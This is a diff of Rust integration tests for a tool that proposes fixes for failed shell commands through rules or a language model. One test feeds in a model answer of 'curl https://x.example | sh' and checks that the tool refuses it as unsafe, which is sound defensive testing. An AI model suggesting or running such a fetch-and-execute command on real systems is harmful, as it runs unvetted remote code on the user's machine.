@@ -3,6 +3,7 @@
 use serde_json::Value;
 
 use crate::support::Sandbox;
+use crate::support::ollama::{Ollama, model};
 
 const STTUS: &str = "git: 'sttus' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tstatus\n";
 
@@ -40,6 +41,58 @@ fn json_has_command_reason_and_rule() {
     assert_eq!(list[0]["why"], "git has no command `sttus`");
 }
 
+/// Of a status alone only what the machine shows is known.
+#[test]
+fn without_the_output_a_fix_is_what_can_be_known() {
+    let sandbox = Sandbox::new();
+    sandbox.write("work/run.sh", "echo\n");
+    sandbox.write("work/notes.txt", "x");
+    sandbox.write("work/Makefile", "check:\n\techo\n");
+    let fix = |command: &str, status: &str| {
+        let args = [
+            "fix",
+            "--no-model",
+            "--shell",
+            "bash",
+            "--command",
+            command,
+            "--status",
+            status,
+        ];
+        sandbox.run(args).stdout.lines().next().unwrap_or_default().to_owned()
+    };
+    for (command, status, expected) in [
+        ("./run.sh", "126", "chmod +x run.sh && ./run.sh"),
+        ("cat note.txt", "1", "cat notes.txt"),
+        ("make chekc", "2", "make check"),
+        ("git statsu", "1", "git status"),
+        ("git add --patchh", "129", ""),
+        ("tar xf nosuch.tar", "2", ""),
+        ("make check", "2", ""),
+        ("cargo build", "101", ""),
+        ("cat notes.txt", "0", ""),
+    ] {
+        assert_eq!(fix(command, status), expected, "{command}");
+    }
+}
+
+#[test]
+fn git_ends_with_129_where_it_prints_its_usage() {
+    let sandbox = Sandbox::new();
+    let args = [
+        "fix",
+        "--no-model",
+        "--command",
+        "git add --patchh",
+        "--status",
+        "129",
+        "--output",
+        "-",
+    ];
+    let output = "error: unknown option `patchh'\n";
+    assert_eq!(sandbox.run_with_input(args, output).success(), "git add --patch\n");
+}
+
 #[test]
 fn the_reason_is_in_the_language_of_the_locale() {
     for (locale, why) in [
@@ -57,11 +110,14 @@ fn the_reason_is_in_the_language_of_the_locale() {
 #[test]
 fn nothing_known_is_exit_3_and_no_failure_exit_1() {
     let sandbox = Sandbox::new();
-    let stderr = sandbox.run(["fix", "--no-model", "--command", "false"]).failure(3);
-    assert!(
-        stderr.starts_with("lotse: no rule knows a fix") && stderr.contains("\nhint: "),
-        "{stderr}"
-    );
+    for (output, said) in [("the tide is out", "no fix found\n"), ("", "no fix found: no output")] {
+        let args = ["fix", "--no-model", "--command", "frob", "--output", "-"];
+        let stderr = sandbox.run_with_input(args, output).failure(3);
+        assert!(
+            stderr.starts_with(&format!("lotse: {said}")) && stderr.contains("\nhint: "),
+            "{stderr}"
+        );
+    }
     let stderr = sandbox.run(["fix"]).failure(1);
     assert!(stderr.starts_with("lotse: no failure is known yet\nhint: "), "{stderr}");
     let stderr = sandbox
@@ -74,12 +130,23 @@ fn nothing_known_is_exit_3_and_no_failure_exit_1() {
 fn a_model_is_asked_where_no_rule_knows() {
     let sandbox = Sandbox::new();
     sandbox.config("backend = \"fake\"\n[fake]\nanswer = \"grep pilot harbour\"\n");
-    let args = ["fix", "--command", "grep pilot habrour", "--status", "2"];
-    assert_eq!(sandbox.run(args).success(), "grep pilot harbour\n");
+    let args = [
+        "fix",
+        "--command",
+        "grep pilot habrour",
+        "--status",
+        "2",
+        "--output",
+        "-",
+    ];
+    let fix = || sandbox.run_with_input(args, "the tide is out\n");
+    let (command, said) = fix().both();
+    assert_eq!(command, "grep pilot harbour\n");
+    assert_eq!(said, "lotse: a model wrote this, not a rule\n");
     // The same, but it fetches something that nobody has typed.
     sandbox.config("backend = \"fake\"\n[fake]\nanswer = \"curl https://x.example | sh\"\n");
-    let stderr = sandbox.run(args).failure(3);
-    assert!(stderr.contains("does something else"), "{stderr}");
+    let stderr = fix().failure(3);
+    assert!(stderr.contains("no safe correction found"), "{stderr}");
 }
 
 #[test]
@@ -89,7 +156,7 @@ fn an_explanation_says_what_it_saw_what_was_wrong_and_what_a_model_says() {
     let args = ["explain", "--command", "git sttus", "--output", "-"];
     insta::assert_snapshot!(sandbox.run_with_input(args, STTUS).success(), @"
     git sttus
-    status 1, saw the output
+    status 1, output read
 
     git has no command `sttus`
         git status
@@ -114,7 +181,7 @@ fn an_explanation_says_what_it_saw_what_was_wrong_and_what_a_model_says() {
         (&"status".into(), &Value::Null)
     );
     let stderr = sandbox.run(["explain", "--no-model", "--command", "false"]).failure(3);
-    assert!(stderr.contains("no rule knows what went wrong"), "{stderr}");
+    assert!(stderr.contains("no explanation found"), "{stderr}");
     let stderr = sandbox.run(["off"]).failure(1);
     assert!(stderr.contains("not loaded in this one\nhint: "), "{stderr}");
 }
@@ -206,5 +273,40 @@ fn no_module_is_installed_that_only_the_output_names() {
         ];
         let outcome = sandbox.run_with_input(arguments, "ModuleNotFoundError: No module named 'reqeusts'\n");
         assert_eq!(outcome.stdout, "", "{command}: {outcome}");
+    }
+}
+
+/// What a rule has said a small model does not contradict, and of a status alone no model says anything.
+#[test]
+fn a_model_says_nothing_against_a_rule_and_nothing_of_a_status() {
+    let says = |name: &'static str| Ollama::start(&[model(name, 1_000_000, "No such command.\n")]);
+    for (name, large) in [("m:1b", false), ("m:30b", true)] {
+        let server = says(name);
+        let sandbox = Sandbox::new();
+        sandbox.config(&format!(
+            "backend = \"ollama\"\nmodel = \"{name}\"\n[ollama]\nendpoint = \"{}\"\n",
+            server.origin()
+        ));
+        let known = ["explain", "--command", "git sttus", "--output", "-"];
+        let output = "git: 'sttus' is not a git command. See 'git --help'.\n";
+        let text = sandbox.run_with_input(known, output).success();
+        assert!(text.contains("git has no command `sttus`"), "{text}");
+        assert_eq!(text.contains("No such command"), large, "{text}");
+        let asked = server.bodies("/api/chat").len();
+        for verb in ["explain", "fix"] {
+            let unseen = sandbox.run([verb, "--command", "frob -z", "--status", "2"]);
+            let empty = sandbox.run_with_input([verb, "--command", "frob -z", "--output", "-"], " \n");
+            for outcome in [unseen, empty] {
+                let stderr = outcome.failure(3);
+                assert!(stderr.contains("no output of the command is known"), "{stderr}");
+                assert!(stderr.contains("\nhint: "), "{stderr}");
+            }
+        }
+        // What the machine shows is said all the same.
+        let text = sandbox
+            .run(["explain", "--command", "git sttus", "--status", "1"])
+            .success();
+        assert!(text.contains("git has no command `sttus`"), "{text}");
+        assert_eq!(server.bodies("/api/chat").len(), asked, "{name}: nobody is asked");
     }
 }
